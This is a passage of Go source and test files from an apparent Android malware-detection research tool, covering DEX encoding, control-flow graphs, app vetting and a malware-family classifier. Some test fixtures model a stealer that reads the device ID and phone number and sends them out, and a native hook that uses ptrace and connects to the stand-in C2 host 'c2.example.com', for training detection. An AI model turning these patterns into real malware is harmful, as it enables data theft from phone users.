		fmt.Fprintf(w, "  digest %s", t.Digest)
	}
	fmt.Fprintln(w)
	total := t.Root.Duration()
	renderSpan(w, t.Root, 0, total)
}

func renderSpan(w io.Writer, s *Span, depth int, total time.Duration) {
	indent := strings.Repeat("  ", depth)
	width := 24 - len(indent)
	if width < 1 {
		width = 1
	}
	d := s.Duration()
	fmt.Fprintf(w, "%s%-*s %10s", indent, width, s.Name, roundDur(d))
	if total > 0 {
		fmt.Fprintf(w, "  %4.1f%%", 100*float64(d)/float64(total))
	}
	for _, a := range s.Attrs {
		fmt.Fprintf(w, "  %s=%s", a.Key, a.Value)
	}
	if s.Err != "" {
		fmt.Fprintf(w, "  ERROR: %s", s.Err)
	}
	fmt.Fprintln(w)
	for _, ev := range s.Events {
		fmt.Fprintf(w, "%s  · %s", indent, ev.Name)
		for _, a := range ev.Attrs {
			fmt.Fprintf(w, " %s=%s", a.Key, a.Value)
		}
		fmt.Fprintln(w)
	}
	for _, c := range s.Children {
		renderSpan(w, c, depth+1, total)
	}
}

func roundDur(d time.Duration) time.Duration {
	switch {
	case d >= time.Second:
		return d.Round(time.Millisecond)
	case d >= time.Millisecond:
		return d.Round(time.Microsecond)
	default:
		return d.Round(time.Nanosecond)
	}
}
