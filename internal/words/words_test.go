package words

import (
	"reflect"
	"testing"
)

func TestSplitIdentifier(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"getDeviceId", []string{"get", "device", "id"}},
		{"ad_loader2", []string{"ad", "loader"}},
		{"URLConnection", []string{"url", "connection"}},
		{"onCreate", []string{"on", "create"}},
		{"a", []string{"a"}},
		{"", nil},
		{"HTTPServer", []string{"http", "server"}},
		{"download$inner", []string{"download", "inner"}},
		{"x9y", []string{"x", "y"}},
	}
	for _, tc := range tests {
		if got := SplitIdentifier(tc.in); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("SplitIdentifier(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

func TestDefaultDictionary(t *testing.T) {
	db := Default()
	if db.Len() < 800 {
		t.Fatalf("dictionary only has %d words", db.Len())
	}
	for _, w := range []string{"download", "manager", "activity", "the", "Download"} {
		if !db.Contains(w) {
			t.Fatalf("dictionary missing %q", w)
		}
	}
	if db.Contains("xqzx") {
		t.Fatal("dictionary contains gibberish")
	}
}

func TestMeaningfulFraction(t *testing.T) {
	db := Default()
	meaningful := []string{"DownloadManager", "onCreate", "parseResponse", "userProfile"}
	if f := db.MeaningfulFraction(meaningful); f < 0.9 {
		t.Fatalf("meaningful identifiers scored %f", f)
	}
	obfuscated := []string{"a", "b", "c", "aa", "ab", "zxq", "qqw"}
	if f := db.MeaningfulFraction(obfuscated); f > 0.2 {
		t.Fatalf("obfuscated identifiers scored %f", f)
	}
	if f := db.MeaningfulFraction(nil); f != 1 {
		t.Fatalf("empty input scored %f, want 1", f)
	}
}

func TestNewCustomDB(t *testing.T) {
	db := New([]string{"Foo", "BAR"})
	if !db.Contains("foo") || !db.Contains("bar") || db.Contains("baz") {
		t.Fatal("custom DB lookup broken")
	}
	if db.Len() != 2 {
		t.Fatalf("Len = %d", db.Len())
	}
}
