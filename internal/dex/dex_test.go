package dex

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

// sampleFile builds a small two-class file exercising every opcode family.
func sampleFile() *File {
	b := NewBuilder()
	cls := b.Class("com.example.Main", "android.app.Activity")
	cls.Field("name", "Ljava/lang/String;", ACCPrivate)
	m := cls.Method("onCreate", ACCPublic, 6, "V", "Landroid/os/Bundle;")
	m.ConstString(0, "/data/data/com.example/cache/x.dex").
		ConstString(1, "/data/data/com.example/odex").
		NewInstance(2, "dalvik.system.DexClassLoader").
		InvokeDirect(MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			2, 0, 1, 0, 0).
		Const(3, 7).
		Const(4, 3).
		Add(5, 3, 4).
		IfNez(5, "done").
		Move(5, 3).
		Label("done").
		ReturnVoid().
		Done()
	helper := b.Class("com.example.util.Helper", "java.lang.Object")
	hm := helper.Method("loop", ACCPublic|ACCStatic, 4, "I", "I")
	hm.Const(0, 0).
		Const(1, 10).
		Label("top").
		IfGe(0, 1, "exit").
		Const(2, 1).
		Add(0, 0, 2).
		Goto("top").
		Label("exit").
		Return(0).
		Done()
	return b.File()
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	f := sampleFile()
	data, err := Encode(f)
	if err != nil {
		t.Fatalf("Encode: %v", err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	if !reflect.DeepEqual(normalize(f), normalize(got)) {
		t.Fatalf("round-trip mismatch:\nwant %+v\ngot  %+v", f, got)
	}
}

func TestEncodeDeterministic(t *testing.T) {
	f := sampleFile()
	a, err := Encode(f)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Encode(f)
	if err != nil {
		t.Fatal(err)
	}
	if string(a) != string(b) {
		t.Fatal("Encode is not deterministic")
	}
}

func TestDecodeRejectsCorruption(t *testing.T) {
	f := sampleFile()
	data, err := Encode(f)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		mutate func([]byte) []byte
	}{
		{"bad magic", func(d []byte) []byte { d[0] = 'X'; return d }},
		{"bad version", func(d []byte) []byte { d[4] = 99; return d }},
		{"truncated", func(d []byte) []byte { return d[:len(d)/2] }},
		{"flipped body byte", func(d []byte) []byte { d[20] ^= 0xff; return d }},
		{"empty", func(d []byte) []byte { return nil }},
		{"flipped crc", func(d []byte) []byte { d[len(d)-1] ^= 0xff; return d }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			mutated := tc.mutate(append([]byte(nil), data...))
			if _, err := Decode(mutated); err == nil {
				t.Fatal("Decode accepted corrupted input")
			}
		})
	}
}

func TestValidateCatchesBadBranch(t *testing.T) {
	f := &File{Classes: []*Class{{
		Name:  "a.B",
		Super: "java.lang.Object",
		Methods: []*Method{{
			Name: "m", Return: "V", Registers: 1,
			Code: []Instruction{{Op: OpGoto, Target: 5}, {Op: OpReturnVoid}},
		}},
	}}}
	if err := f.Validate(); err == nil {
		t.Fatal("Validate accepted out-of-range branch target")
	}
}

func TestValidateCatchesBadRegister(t *testing.T) {
	f := &File{Classes: []*Class{{
		Name:  "a.B",
		Super: "java.lang.Object",
		Methods: []*Method{{
			Name: "m", Return: "V", Registers: 1,
			Code: []Instruction{{Op: OpConst, A: 3, Value: 1}, {Op: OpReturnVoid}},
		}},
	}}}
	if err := f.Validate(); err == nil {
		t.Fatal("Validate accepted out-of-range register")
	}
}

func TestDisassembleAssembleRoundTrip(t *testing.T) {
	f := sampleFile()
	texts := Disassemble(f)
	if len(texts) != len(f.Classes) {
		t.Fatalf("Disassemble produced %d classes, want %d", len(texts), len(f.Classes))
	}
	for _, c := range f.Classes {
		src, ok := texts[c.Name]
		if !ok {
			t.Fatalf("missing disassembly for %s", c.Name)
		}
		got, err := Assemble(src)
		if err != nil {
			t.Fatalf("Assemble(%s): %v\nsource:\n%s", c.Name, err, src)
		}
		if !reflect.DeepEqual(normalizeClass(c), normalizeClass(got)) {
			t.Fatalf("smali round-trip mismatch for %s:\nwant %+v\ngot  %+v\nsource:\n%s",
				c.Name, c, got, src)
		}
	}
}

func TestAssembleErrors(t *testing.T) {
	tests := []struct {
		name string
		src  string
	}{
		{"no class", "hello"},
		{"bad directive", ".class public La/B;\n.super Ljava/lang/Object;\n.bogus x"},
		{"unknown label", ".class public La/B;\n.super Ljava/lang/Object;\n" +
			".method public m()V\n    .registers 1\n    goto :nowhere\n.end method"},
		{"unterminated method", ".class public La/B;\n.super Ljava/lang/Object;\n" +
			".method public m()V\n    .registers 1\n    return-void"},
		{"bad mnemonic", ".class public La/B;\n.super Ljava/lang/Object;\n" +
			".method public m()V\n    .registers 1\n    frobnicate v0\n.end method"},
		{"bad register", ".class public La/B;\n.super Ljava/lang/Object;\n" +
			".method public m()V\n    .registers 1\n    move x0, v1\n.end method"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := Assemble(tc.src); err == nil {
				t.Fatal("Assemble accepted invalid source")
			}
		})
	}
}

func TestMethodDescriptor(t *testing.T) {
	m := &Method{Name: "f", Params: []string{"Ljava/lang/String;", "I", "[B"}, Return: "V"}
	if got, want := m.Descriptor(), "(Ljava/lang/String;I[B)V"; got != want {
		t.Fatalf("Descriptor() = %q, want %q", got, want)
	}
}

func TestSplitDescriptors(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"I", []string{"I"}},
		{"Ljava/lang/String;I[B", []string{"Ljava/lang/String;", "I", "[B"}},
		{"[[Ljava/lang/Object;J", []string{"[[Ljava/lang/Object;", "J"}},
	}
	for _, tc := range tests {
		got, err := splitDescriptors(tc.in)
		if err != nil {
			t.Fatalf("splitDescriptors(%q): %v", tc.in, err)
		}
		if !reflect.DeepEqual(got, tc.want) {
			t.Fatalf("splitDescriptors(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
	for _, bad := range []string{"L", "Q", "[", "Lfoo"} {
		if _, err := splitDescriptors(bad); err == nil {
			t.Fatalf("splitDescriptors(%q) accepted invalid input", bad)
		}
	}
}

func TestJavaDescConversion(t *testing.T) {
	if got := JavaToDesc("com.example.Main"); got != "Lcom/example/Main;" {
		t.Fatalf("JavaToDesc = %q", got)
	}
	if got := DescToJava("Lcom/example/Main;"); got != "com.example.Main" {
		t.Fatalf("DescToJava = %q", got)
	}
	if got := DescToJava("I"); got != "I" {
		t.Fatalf("DescToJava on primitive = %q", got)
	}
}

func TestBuildCFG(t *testing.T) {
	f := sampleFile()
	m := f.FindClass("com.example.util.Helper").FindMethod("loop", "")
	g := BuildCFG(m)
	if len(g.Blocks) != 4 {
		t.Fatalf("loop CFG has %d blocks, want 4: %s", len(g.Blocks), g)
	}
	// Every non-terminator block must have at least one successor.
	for _, b := range g.Blocks {
		last := m.Code[b.End-1]
		if !last.Op.IsTerminator() && !last.Op.IsConditional() && len(b.Succs) == 0 && b.End < len(m.Code) {
			t.Fatalf("block %d has no successors: %s", b.Index, g)
		}
	}
	reach := g.Reachable()
	if len(reach) != len(g.Blocks) {
		t.Fatalf("reachable %d blocks, want all %d", len(reach), len(g.Blocks))
	}
}

func TestBuildCFGEmptyMethod(t *testing.T) {
	g := BuildCFG(&Method{Name: "native", Return: "V"})
	if len(g.Blocks) != 0 {
		t.Fatalf("empty method produced %d blocks", len(g.Blocks))
	}
	if len(g.Reachable()) != 0 {
		t.Fatal("empty method has reachable blocks")
	}
}

func TestOptimizeStripsNops(t *testing.T) {
	b := NewBuilder()
	m := b.Class("a.B", "java.lang.Object").Method("m", ACCPublic, 2, "V")
	m.Nop().
		Const(0, 1).
		Nop().
		IfNez(0, "end").
		Nop().
		Const(1, 2).
		Label("end").
		ReturnVoid().
		Done()
	data, err := Optimize(b.File())
	if err != nil {
		t.Fatalf("Optimize: %v", err)
	}
	if !IsOptimized(data) {
		t.Fatal("Optimize output missing ODEX magic")
	}
	opt, err := Decode(data)
	if err != nil {
		t.Fatalf("Decode optimized: %v", err)
	}
	om := opt.Classes[0].Methods[0]
	for _, in := range om.Code {
		if in.Op == OpNop {
			t.Fatal("Optimize left a nop in place")
		}
	}
	// Branch must retarget the return-void, now at index 3.
	if om.Code[1].Op != OpIfNez || om.Code[1].Target != 3 {
		t.Fatalf("branch not remapped: %+v", om.Code)
	}
}

func TestStringsAndRefs(t *testing.T) {
	f := sampleFile()
	strs := f.Strings()
	if len(strs) != 2 || !strings.HasSuffix(strs[0], "x.dex") {
		t.Fatalf("Strings() = %v", strs)
	}
	refs := f.InvokedRefs()
	if len(refs) != 1 || refs[0].Class != "dalvik.system.DexClassLoader" {
		t.Fatalf("InvokedRefs() = %v", refs)
	}
}

func TestIdentifiers(t *testing.T) {
	f := sampleFile()
	ids := Identifiers(f)
	want := map[string]bool{"com": true, "example": true, "Main": true,
		"util": true, "Helper": true, "onCreate": true, "loop": true, "name": true}
	for _, id := range ids {
		if !want[id] {
			t.Fatalf("unexpected identifier %q in %v", id, ids)
		}
		delete(want, id)
	}
	if len(want) != 0 {
		t.Fatalf("missing identifiers: %v (got %v)", want, ids)
	}
}

func TestAccessFlagsString(t *testing.T) {
	f := ACCPublic | ACCStatic | ACCFinal
	if got := f.String(); got != "public static final" {
		t.Fatalf("AccessFlags.String() = %q", got)
	}
	if got := AccessFlags(0).String(); got != "" {
		t.Fatalf("zero flags = %q", got)
	}
}

// randFile builds a structurally valid random file for property testing.
func randFile(r *rand.Rand) *File {
	b := NewBuilder()
	nClasses := 1 + r.Intn(4)
	for ci := 0; ci < nClasses; ci++ {
		cls := b.Class(randIdent(r)+"."+randIdent(r), "java.lang.Object")
		if r.Intn(2) == 0 {
			cls.Field(randIdent(r), "I", ACCPrivate)
		}
		nMethods := 1 + r.Intn(3)
		for mi := 0; mi < nMethods; mi++ {
			regs := 4 + r.Intn(4)
			m := cls.Method(randIdent(r), ACCPublic, regs, "V")
			nInstr := 1 + r.Intn(12)
			for k := 0; k < nInstr; k++ {
				switch r.Intn(7) {
				case 0:
					m.Const(r.Intn(regs), int64(r.Intn(1000)-500))
				case 1:
					m.ConstString(r.Intn(regs), randIdent(r))
				case 2:
					m.Move(r.Intn(regs), r.Intn(regs))
				case 3:
					m.Add(r.Intn(regs), r.Intn(regs), r.Intn(regs))
				case 4:
					m.InvokeStatic(MethodRef{Class: "java.lang.System",
						Name: randIdent(r), Sig: "()V"})
				case 5:
					m.NewInstance(r.Intn(regs), randIdent(r))
				case 6:
					m.Nop()
				}
			}
			m.ReturnVoid().Done()
		}
	}
	return b.File()
}

func randIdent(r *rand.Rand) string {
	const letters = "abcdefghijklmnopqrstuvwxyz"
	n := 1 + r.Intn(8)
	var sb strings.Builder
	for i := 0; i < n; i++ {
		sb.WriteByte(letters[r.Intn(len(letters))])
	}
	return sb.String()
}

func TestPropertyEncodeDecodeRoundTrip(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 50,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			vals[0] = reflect.ValueOf(randFile(r))
		},
	}
	prop := func(f *File) bool {
		data, err := Encode(f)
		if err != nil {
			return false
		}
		got, err := Decode(data)
		if err != nil {
			return false
		}
		return reflect.DeepEqual(normalize(f), normalize(got))
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestPropertySmaliRoundTrip(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 30,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			vals[0] = reflect.ValueOf(randFile(r))
		},
	}
	prop := func(f *File) bool {
		for _, c := range f.Classes {
			got, err := Assemble(DisassembleClass(c))
			if err != nil {
				return false
			}
			if !reflect.DeepEqual(normalizeClass(c), normalizeClass(got)) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyCFGCoversAllInstructions(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 50,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			vals[0] = reflect.ValueOf(randFile(r))
		},
	}
	prop := func(f *File) bool {
		for _, c := range f.Classes {
			for _, m := range c.Methods {
				g := BuildCFG(m)
				covered := 0
				prevEnd := 0
				for _, b := range g.Blocks {
					if b.Start != prevEnd || b.End <= b.Start {
						return false // blocks must tile the body
					}
					covered += b.End - b.Start
					prevEnd = b.End
				}
				if covered != len(m.Code) {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

// normalize zeroes representation-only differences (nil vs empty slices).
func normalize(f *File) *File {
	nf := &File{}
	for _, c := range f.Classes {
		nf.Classes = append(nf.Classes, normalizeClass(c))
	}
	return nf
}

func normalizeClass(c *Class) *Class {
	nc := *c
	if len(nc.Interfaces) == 0 {
		nc.Interfaces = nil
	}
	nc.Fields = append([]*Field(nil), c.Fields...)
	if len(nc.Fields) == 0 {
		nc.Fields = nil
	}
	nc.Methods = nil
	for _, m := range c.Methods {
		nm := *m
		if len(nm.Params) == 0 {
			nm.Params = nil
		}
		if len(nm.Code) == 0 {
			nm.Code = nil
		}
		for i := range nm.Code {
			if len(nm.Code[i].Args) == 0 {
				nm.Code[i].Args = nil
			}
		}
		nc.Methods = append(nc.Methods, &nm)
	}
	return &nc
}

func TestSummary(t *testing.T) {
	f := sampleFile()
	s := Summary(f)
	if !strings.Contains(s, "2 classes") || !strings.Contains(s, "methods") {
		t.Fatalf("Summary = %q", s)
	}
}

func TestOpcodeStrings(t *testing.T) {
	if OpConstString.String() != "const-string" || Opcode(200).String() != "op?" {
		t.Fatal("opcode names wrong")
	}
	if Opcode(200).Valid() {
		t.Fatal("invalid opcode reported valid")
	}
	if !OpGoto.IsTerminator() || OpIfEq.IsTerminator() {
		t.Fatal("terminator classification wrong")
	}
	if !OpIfEqz.IsConditional() || OpGoto.IsConditional() {
		t.Fatal("conditional classification wrong")
	}
}

func TestMethodRefFieldRefString(t *testing.T) {
	mr := MethodRef{Class: "a.B", Name: "m", Sig: "()V"}
	if mr.String() != "La/B;->m()V" {
		t.Fatalf("MethodRef.String = %q", mr.String())
	}
	fr := FieldRef{Class: "a.B", Name: "f", Type: "I"}
	if fr.String() != "La/B;->f:I" {
		t.Fatalf("FieldRef.String = %q", fr.String())
	}
}

func TestClassHelpers(t *testing.T) {
	f := sampleFile()
	c := f.FindClass("com.example.Main")
	if c.Package() != "com.example" {
		t.Fatalf("Package = %q", c.Package())
	}
	if (&Class{Name: "Bare"}).Package() != "" {
		t.Fatal("default package not empty")
	}
	if c.FindField("name") == nil || c.FindField("nope") != nil {
		t.Fatal("FindField wrong")
	}
	if f.FindClass("missing") != nil {
		t.Fatal("FindClass found missing")
	}
	if c.FindMethod("onCreate", "(Landroid/os/Bundle;)V") == nil {
		t.Fatal("FindMethod with sig failed")
	}
	if c.FindMethod("onCreate", "(I)V") != nil {
		t.Fatal("FindMethod matched wrong sig")
	}
}
