package bouncer

import (
	"context"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/trace"
)

// TestReviewContextJoinsTrace: ReviewContext hangs its review span (with
// static and dynamic phases) under the caller's active span, so a daemon
// scan trace covers vetting and analysis in one tree.
func TestReviewContextJoinsTrace(t *testing.T) {
	b := dex.NewBuilder()
	b.Class("com.ok.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	data, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: "com.ok", MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: "com.ok.Main", Main: true}}}},
		Dex: dexBytes,
	})
	if err != nil {
		t.Fatal(err)
	}

	parent := trace.New("scan", trace.WithDigest("deadbeef"))
	ctx := trace.ContextWith(context.Background(), parent)
	v, err := (&Reviewer{Classifier: trainedClassifier(t)}).ReviewContext(ctx, data)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Approved {
		t.Fatalf("benign app rejected: %s", v.Reason)
	}

	rev := parent.Root.Find("review")
	if rev == nil {
		t.Fatal("review span not joined under caller root")
	}
	if rev.EndAt.IsZero() {
		t.Fatal("review span never ended")
	}
	if got := rev.Attr("approved"); got != "true" {
		t.Fatalf("review approved attr = %q", got)
	}
	for _, name := range []string{"review.static", "review.dynamic"} {
		s := rev.Find(name)
		if s == nil {
			t.Fatalf("phase span %q missing under review", name)
		}
		if s.EndAt.IsZero() {
			t.Fatalf("phase span %q never ended", name)
		}
	}
}

// TestReviewStandaloneHasNoTraceRequirement: plain Review still works
// without any trace in scope (fresh trace is created and discarded).
func TestReviewStandaloneTraceError(t *testing.T) {
	parent := trace.New("scan")
	ctx := trace.ContextWith(context.Background(), parent)
	if _, err := (&Reviewer{}).ReviewContext(ctx, []byte("garbage")); err == nil {
		t.Fatal("garbage approved")
	}
	rev := parent.Root.Find("review")
	if rev == nil {
		t.Fatal("no review span for failed review")
	}
	if rev.Err == "" || rev.EndAt.IsZero() {
		t.Fatalf("failed review span not closed with error: %+v", rev)
	}
}
