package droidnative

import (
	"fmt"
	"testing"

	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/nativebin"
)

// stealerDex builds a Swiss-code-monkeys-style payload: read identifiers,
// loop over commands, transmit.
func stealerDex(extraNoise int) *mail.Program {
	b := dex.NewBuilder()
	cls := b.Class("com.scm.Service", "java.lang.Object")
	m := cls.Method("run", dex.ACCPublic, 8, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(2).
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getLine1Number", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(3).
		Const(4, 0).
		Const(5, 3).
		Label("loop").
		IfGe(4, 5, "done").
		InvokeVirtual(dex.MethodRef{Class: "com.scm.Service", Name: "exec", Sig: "()V"}, 0).
		Const(6, 1).
		Add(4, 4, 6).
		Goto("loop").
		Label("done").
		NewInstance(7, "org.apache.http.impl.client.DefaultHttpClient").
		InvokeVirtual(dex.MethodRef{Class: "org.apache.http.impl.client.DefaultHttpClient",
			Name: "execute", Sig: "(Ljava/lang/String;)V"}, 7, 2).
		ReturnVoid().
		Done()
	ex := cls.Method("exec", dex.ACCPublic, 4, "V")
	for i := 0; i < extraNoise; i++ {
		ex.Const(1, int64(i))
	}
	ex.ReturnVoid().Done()
	return mail.FromDex(b.File())
}

// benignDex is structurally different app code.
func benignDex() *mail.Program {
	b := dex.NewBuilder()
	cls := b.Class("com.app.Calc", "java.lang.Object")
	m := cls.Method("sum", dex.ACCPublic, 6, "I", "I")
	m.Const(2, 0).
		Const(3, 0).
		Label("top").
		IfGe(3, 1, "end").
		Add(2, 2, 3).
		Const(4, 1).
		Add(3, 3, 4).
		Goto("top").
		Label("end").
		Return(2).
		Done()
	cls.Method("helper", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	return mail.FromDex(b.File())
}

func TestClassifyDetectsVariant(t *testing.T) {
	var c Classifier
	if err := c.Train("Swiss code monkeys", stealerDex(0)); err != nil {
		t.Fatal(err)
	}
	// A variant differing only in the noise function body (the paper:
	// variants "only differ in the memory addresses").
	det := c.Classify(stealerDex(0))
	if !det.Malware || det.Family != "Swiss code monkeys" {
		t.Fatalf("identical sample not detected: %+v", det)
	}
	if det.Score < 0.99 {
		t.Fatalf("identical sample score = %f", det.Score)
	}
}

func TestClassifyRejectsBenign(t *testing.T) {
	var c Classifier
	if err := c.Train("Swiss code monkeys", stealerDex(0)); err != nil {
		t.Fatal(err)
	}
	det := c.Classify(benignDex())
	if det.Malware {
		t.Fatalf("benign flagged: %+v", det)
	}
	if det.Family != "" {
		t.Fatalf("non-malware detection carries family %q", det.Family)
	}
}

func TestClassifyNativeFamily(t *testing.T) {
	mk := func(host string) *mail.Program {
		b := nativebin.NewBuilder("libhook.so", "arm")
		target := b.CString("com.tencent.mobileqq")
		h := b.CString(host)
		b.Symbol("Java_com_mal_Hook_attack").
			MovI(0, 0).
			Svc(nativebin.SysSetuid).
			MovI(0, target).
			Svc(nativebin.SysFindProc).
			CmpI(0, 0).
			Blt("out").
			Svc(nativebin.SysPtrace).
			MovI(0, h).
			Svc(nativebin.SysConnect).
			Label("out").
			Ret()
		return mail.FromNative(b.Build())
	}
	var c Classifier
	if err := c.Train("Chathook ptrace", mk("c2.example.com")); err != nil {
		t.Fatal(err)
	}
	// Variant with a different C2 host (data change, same code shape).
	det := c.Classify(mk("other.example.org"))
	if !det.Malware || det.Family != "Chathook ptrace" {
		t.Fatalf("native variant not detected: %+v", det)
	}
}

func TestThresholdSweep(t *testing.T) {
	// A partially-matching sample: half the training program.
	var c Classifier
	if err := c.Train("fam", stealerDex(0)); err != nil {
		t.Fatal(err)
	}
	// Build a program with only the noise function (small overlap).
	b := dex.NewBuilder()
	b.Class("com.scm.Service", "java.lang.Object").
		Method("exec", dex.ACCPublic, 4, "V").ReturnVoid().Done()
	partial := mail.FromDex(b.File())

	det := c.Classify(partial)
	if det.Malware {
		t.Fatalf("partial sample flagged at 90%%: %+v", det)
	}
	c.Threshold = det.Score - 0.01
	if c.Threshold > 0 {
		det2 := c.Classify(partial)
		if !det2.Malware {
			t.Fatalf("lowered threshold %f did not flag score %f", c.Threshold, det2.Score)
		}
	}
}

func TestTrainValidation(t *testing.T) {
	var c Classifier
	if err := c.Train("", stealerDex(0)); err == nil {
		t.Fatal("empty family accepted")
	}
	if err := c.Train("x", &mail.Program{}); err == nil {
		t.Fatal("empty program accepted")
	}
	if c.TrainedSamples() != 0 {
		t.Fatal("failed training mutated classifier")
	}
}

func TestFamilies(t *testing.T) {
	var c Classifier
	for _, fam := range []string{"b", "a", "b"} {
		if err := c.Train(fam, stealerDex(0)); err != nil {
			t.Fatal(err)
		}
	}
	fams := c.Families()
	if len(fams) != 2 || fams[0] != "a" || fams[1] != "b" {
		t.Fatalf("Families = %v", fams)
	}
}

func TestMultiFamilyBestMatch(t *testing.T) {
	var c Classifier
	if err := c.Train("dex-fam", stealerDex(0)); err != nil {
		t.Fatal(err)
	}
	nb := nativebin.NewBuilder("libz.so", "arm")
	nb.Symbol("f").MovI(0, 1).Svc(nativebin.SysPtrace).Ret()
	if err := c.Train("native-fam", mail.FromNative(nb.Build())); err != nil {
		t.Fatal(err)
	}
	det := c.Classify(stealerDex(0))
	if det.Family != "dex-fam" {
		t.Fatalf("best family = %q, want dex-fam (score %f)", det.Family, det.Score)
	}
}

func TestUntrainedClassifierFlagsNothing(t *testing.T) {
	var c Classifier
	if det := c.Classify(stealerDex(0)); det.Malware {
		t.Fatal("untrained classifier flagged a sample")
	}
}

func TestScaleManyVariants(t *testing.T) {
	// Train on 19 families x a few samples (miniature of the paper's
	// 1,240-sample training set) and verify no cross-family confusion on
	// exact variants.
	var c Classifier
	progs := make(map[string]*mail.Program)
	for i := 0; i < 19; i++ {
		fam := fmt.Sprintf("family-%02d", i)
		p := stealerDex(i + 1) // structurally distinct noise sizes
		progs[fam] = p
		if err := c.Train(fam, p); err != nil {
			t.Fatal(err)
		}
	}
	for fam, p := range progs {
		det := c.Classify(p)
		if !det.Malware {
			t.Fatalf("family %s variant not detected", fam)
		}
	}
}
