// Package experiments regenerates every table and figure of the paper's
// evaluation (§V): it generates the calibrated marketplace, runs the full
// DyDroid pipeline over every app (in parallel), replays the malware apps
// under the four Table VIII device configurations, and renders each
// table with the paper-reported values alongside the measured ones.
//
// The runner is built for marketplace scale: per-app failures are retried
// once and then recorded as StatusAnalysisError records instead of
// aborting a multi-hour run (FailRecord, the default), or aggregated and
// returned after cancelling dispatch (FailFast). Every run carries a
// metrics registry whose per-stage histograms surface in Results.RunStats.
package experiments

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/resultstore"
	"github.com/dydroid/dydroid/internal/stats"
	"github.com/dydroid/dydroid/internal/telemetry"
	"github.com/dydroid/dydroid/internal/trace"
)

// FailurePolicy selects how Run reacts to a per-app pipeline failure.
type FailurePolicy int

const (
	// FailRecord (the default) retries the failing app and, when it still
	// fails, records a StatusAnalysisError AppRecord carrying the error,
	// then keeps going. Run returns nil error; Results.Err() aggregates
	// the per-app failures.
	FailRecord FailurePolicy = iota
	// FailFast cancels dispatch on the first failure (no retry of other
	// queued apps) and returns every error gathered from in-flight
	// workers, joined.
	FailFast
)

// Config controls a measurement run.
type Config struct {
	// Seed drives corpus generation and fuzzing.
	Seed int64
	// Scale shrinks the marketplace (1.0 = the paper's 58,739 apps).
	Scale float64
	// Workers is the pipeline parallelism (default: GOMAXPROCS).
	Workers int
	// TrainPerFamily sets DroidNative training samples per family
	// (default 3; the paper used ~65).
	TrainPerFamily int
	// MonkeyEvents is the per-app fuzz budget (default 25).
	MonkeyEvents int
	// Stream, when true, consumes the corpus through corpus.Stream
	// instead of a materialized store: workers analyze apps as the
	// bounded producer yields them and each spec is released once its
	// record lands, so marketplace-scale runs never hold the whole
	// population. Results are byte-identical to a materialized run at
	// the same Seed/Scale.
	Stream bool
	// Progress, when non-nil, receives periodic progress callbacks. It
	// fires every 500 completed apps and once at done == total; failed
	// apps count as completed.
	Progress func(done, total int)
	// Context, when non-nil, cancels the run externally: dispatch stops
	// and Run returns the context error once in-flight apps drain.
	Context context.Context
	// OnFailure is the per-app failure policy (default FailRecord).
	OnFailure FailurePolicy
	// MaxAttempts is the per-app attempt budget (default 2: the paper-era
	// runner's retry-once-then-record behaviour; 1 disables retries).
	MaxAttempts int
	// Metrics, when non-nil, is the registry the run records into;
	// otherwise Run creates a private one. Either way the snapshot lands
	// in Results.RunStats.
	Metrics *metrics.Registry
	// Warm, when non-nil, is a resultstore-backed warm-start: apps whose
	// content digest already has a record from a previous run (same Seed
	// and MonkeyEvents) skip analysis, and fresh results are stored for
	// the next run. Counters warm.hits/warm.misses/warm.stores/warm.errors
	// land in RunStats. Open the store with Version experiments.WarmVersion.
	Warm *resultstore.Store
	// TraceDir, when non-empty, is created if missing and receives the
